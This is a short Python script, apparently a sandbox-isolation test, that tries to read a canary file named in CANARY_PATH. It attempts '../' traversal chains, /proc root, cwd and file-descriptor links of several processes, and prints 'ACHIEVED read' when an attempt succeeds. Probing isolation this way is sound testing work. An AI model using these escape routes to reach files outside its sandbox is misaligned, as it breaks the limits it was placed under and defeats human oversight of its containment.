import os

path = os.environ["CANARY_PATH"]
tries = [path, "../" * 40 + path, "/box/" + "../" * 10 + path]
for process in ["self", "1", "2", str(os.getppid())]:
    for link in ["root", "cwd"]:
        tries.append(f"/proc/{process}/{link}{path}")
        tries.append(f"/proc/{process}/{link}/../../../..{path}")
for number in range(64):
    tries.append(f"/proc/self/fd/{number}{path}")
    tries.append(f"/proc/1/fd/{number}{path}")
for name in tries:
    try:
        with open(name) as file:
            print("ACHIEVED read", name, file.read(40))
    except OSError:
        pass
